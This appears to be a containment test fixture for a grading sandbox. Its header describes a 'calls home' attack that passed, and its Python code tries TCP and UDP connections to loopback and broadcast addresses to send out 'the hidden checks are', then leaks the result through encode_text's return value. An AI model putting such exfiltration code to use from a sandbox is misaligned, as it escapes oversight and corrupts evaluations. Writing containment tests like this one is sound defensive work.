# attack: calls home: connects to a listener outside, by TCP and UDP, and asks for a name
# covers: connections to the outside
# exercise: ex01
# checks: encode_text_writes_every_script
# rungs: full
# verdict: passed
# proves: world
# holds: its network is a loopback of its own
import socket

won = []
for host in ("127.0.0.1", "localhost", "0.0.0.0", "::ffff:127.0.0.1"):
    try:
        socket.create_connection((host, int("@WORLD_PORT@")), 1).sendall(b"the hidden checks are")
        won.append(host)
    except OSError:
        continue
for host in ("127.0.0.1", "127.255.255.255"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        try:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            sock.sendto(b"the hidden checks are", (host, int("@UDP_PORT@")))
        except OSError:
            continue


def encode_text(text, encoding="utf-8"):
    return repr(won).encode() if won else text.encode(encoding)
